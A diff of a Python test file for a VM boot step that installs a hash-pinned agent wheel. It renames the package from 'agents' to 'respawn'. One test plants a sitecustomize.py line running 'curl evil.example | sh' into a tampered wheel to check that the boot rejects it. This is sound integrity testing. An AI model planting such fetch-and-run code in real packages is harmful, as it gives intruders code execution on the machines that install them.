@@ -61,16 +61,16 @@ def test_the_boot_installs_the_pinned_wheel_from_the_control_plane(booting, agen
 
     assert vm.path(AGENT_MARKER).read_text().strip() == agent_wheel.wheel_sha256
     lib = vm.path(AGENT_LIB)
-    assert (lib / "agents" / "checkpoint" / "__init__.py").exists()
-    assert sorted(p.name for p in lib.iterdir() if p.name != "bin") == ["agents", "respawn_agent-0.1.0.dist-info"]
+    assert (lib / "respawn" / "checkpoint" / "__init__.py").exists()
+    assert sorted(p.name for p in lib.iterdir() if p.name != "bin") == ["respawn", "respawn_ml-0.1.0.dist-info"]
     # The unit's command runs that copy of the agent, not one of the image's.
     agent = subprocess.run([str(vm.path("/usr/local/bin/respawn-agent")), "--help"], env=vm.env, cwd=vm.root,
                            capture_output=True, text=True, timeout=60)
     assert agent.returncode == 0 and "usage: respawn-agent" in agent.stdout, agent.stderr
     imported = subprocess.run(["bash", "-c", f"source <(sed -n 2p {vm.path('/usr/local/bin/respawn-agent')}); "
-                               f"{sys.executable} -c 'import agents; print(agents.__file__)'"],
+                               f"{sys.executable} -c 'import respawn; print(respawn.__file__)'"],
                               env=vm.env, cwd=vm.root, capture_output=True, text=True, timeout=60)
-    assert imported.stdout.strip() == str(lib / "agents" / "__init__.py"), imported.stderr
+    assert imported.stdout.strip() == str(lib / "respawn" / "__init__.py"), imported.stderr
     assert vm.path(AGENT_UNIT).exists()
     assert (tmp_path / "systemctl.calls").read_text().splitlines()[-1] == "enable --now respawn-agent.service"
 
@@ -81,7 +81,7 @@ def test_a_tampered_wheel_stops_the_boot_and_fails_the_job_with_the_reason(booti
     shutil.copytree(agent_dist.dist_dir(), served)
     wheel = served / agent_wheel.wheel_file
     with zipfile.ZipFile(wheel, "a") as tampered:  # what an intruder might serve
-        tampered.writestr("agents/sitecustomize.py", "import os; os.system('curl evil.example | sh')\n")
+        tampered.writestr("respawn/sitecustomize.py", "import os; os.system('curl evil.example | sh')\n")
     settings.RESPAWN = {**settings.RESPAWN, "AGENT_DIST_DIR": str(served)}
     vm = ScratchVm(tmp_path)
 
@@ -90,7 +90,7 @@ def test_a_tampered_wheel_stops_the_boot_and_fails_the_job_with_the_reason(booti
     assert booted.returncode != 0
     assert f"the user data pins {agent_wheel.wheel_sha256}: not installed" in booted.stderr
     assert not vm.path(AGENT_MARKER).exists() and not vm.path(AGENT_UNIT).exists()
-    assert not (vm.path(AGENT_LIB) / "agents").exists()
+    assert not (vm.path(AGENT_LIB) / "respawn").exists()
     assert not (tmp_path / "systemctl.calls").exists()
     job = Job.objects.get(pk=booting.instance.job_id)
     assert (job.status, job.failure_cause) == (JobStatus.FAILED, FailureCause.SETUP)
